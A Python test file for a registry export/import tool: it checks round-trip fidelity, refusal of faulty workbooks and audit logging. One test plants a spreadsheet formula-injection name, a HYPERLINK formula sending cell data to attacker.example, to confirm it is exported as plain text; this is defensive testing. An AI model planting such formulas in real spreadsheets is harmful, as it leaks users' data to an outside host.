"""`vrukit programme export` then `import` into an empty store reproduces the registry exactly;
a workbook with a problem is refused by sheet, row, column and value, and changes nothing."""

from __future__ import annotations

import hashlib

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from conftest import small_programme
from vrukit.cli import app as cli
from vrukit.errors import InputFileError
from vrukit.programme.db import engine, session
from vrukit.programme.exchange import SHEETS, import_registry
from vrukit.programme.models import (
    AuditEvent,
    Intervention,
    Organisation,
    ReturnTemplate,
    TheoryStep,
)

runner = CliRunner()


def _sheets(path) -> dict[str, pd.DataFrame]:
    return pd.read_excel(path, sheet_name=None, dtype=object, engine="calamine")


def _export(url: str, path) -> str:
    res = runner.invoke(cli, ["programme", "export", str(path), "--store", url])
    assert res.exit_code == 0, res.output
    return res.output


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    folder = tmp_path_factory.mktemp("exchange")
    url = small_programme(folder)
    _export(url, folder / "registry.xlsx")
    return url, folder / "registry.xlsx"


def test_export_then_import_into_an_empty_store_reproduces_the_registry(demo, store_url, tmp_path):
    url, first = demo
    res = runner.invoke(cli, ["programme", "import", str(first), "--store", store_url])
    assert res.exit_code == 0, res.output
    second = tmp_path / "again.xlsx"
    _export(store_url, second)
    a, b = _sheets(first), _sheets(second)
    assert list(a) == list(b) == list(SHEETS)
    for sheet in SHEETS:
        pd.testing.assert_frame_equal(a[sheet], b[sheet], check_dtype=False, obj=sheet)
    assert len(a["interventions"]) >= 3 and len(a["templates"]) and len(a["theory"])
    with Session(engine(url)) as s, Session(engine(store_url)) as t:
        for model in (Organisation, Intervention, TheoryStep, ReturnTemplate):
            n = s.scalar(select(func.count()).select_from(model))
            assert n and t.scalar(select(func.count()).select_from(model)) == n, model
    # importing the same workbook again changes nothing
    res = runner.invoke(cli, ["programme", "import", str(first), "--store", store_url])
    assert res.exit_code == 0 and "nothing new" in res.output, res.output
    # each import is in the audit trail: the file, its digest, who ran it and what it did
    with Session(engine(store_url)) as t:
        events = t.scalars(select(AuditEvent).where(AuditEvent.action == "import")).all()
    digest = hashlib.sha256(first.read_bytes()).hexdigest()
    assert [(e.table_name, e.row_key, e.after["sha256"]) for e in events] == [
        ("registry", first.name, digest)
    ] * 2
    assert events[0].after["added"]["interventions"] == len(a["interventions"])
    assert not any(events[1].after["added"].values()) and events[0].after["operator"]


def test_a_workbook_with_a_problem_is_refused_by_sheet_row_and_column(demo, tmp_path):
    _, first = demo
    wb = load_workbook(first)
    ws = wb["interventions"]
    ws.cell(row=3, column=2).value = "Nobody We Know Ltd"  # the provider of the second one
    ws2 = wb["organisations"]
    ws2.append(["A New Partner", "provider", False])  # would be added, were the file right
    bad = tmp_path / "bad.xlsx"
    wb.save(bad)
    url_copy = small_programme(tmp_path / "copy")
    with Session(engine(url_copy)) as s:
        before = s.scalar(select(func.count()).select_from(Organisation))
    with pytest.raises(InputFileError) as e, session(url_copy) as s:
        import_registry(s, bad)
    said = str(e.value)
    assert "sheet 'interventions'" in said and "line 3" in said and "'provider'" in said
    assert "Nobody We Know Ltd" in said
    with Session(engine(url_copy)) as s:
        assert s.scalar(select(func.count()).select_from(Organisation)) == before


def test_a_name_that_begins_as_a_formula_is_exported_as_text_and_comes_back_the_same(
    tmp_path, store_url
):
    """The fifteenth probe: an organisation named "=HYPERLINK(...)" was written as a live
    formula. It is written as text, and imported back unchanged."""
    url = small_programme(tmp_path / "p")
    name = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
    with session(url) as s:
        s.scalars(select(Organisation).order_by(Organisation.id)).first().name = name
    path = tmp_path / "registry.xlsx"
    _export(url, path)
    cells = [c for row in load_workbook(path)["organisations"].iter_rows() for c in row]
    named = [c for c in cells if c.value == name]
    assert named and all(c.data_type == "s" for c in named)
    assert not [c for c in cells if c.data_type == "f"]
    res = runner.invoke(cli, ["programme", "import", str(path), "--store", store_url])
    assert res.exit_code == 0, res.output
    with Session(engine(store_url)) as s:
        assert s.scalar(select(func.count()).where(Organisation.name == name)) == 1
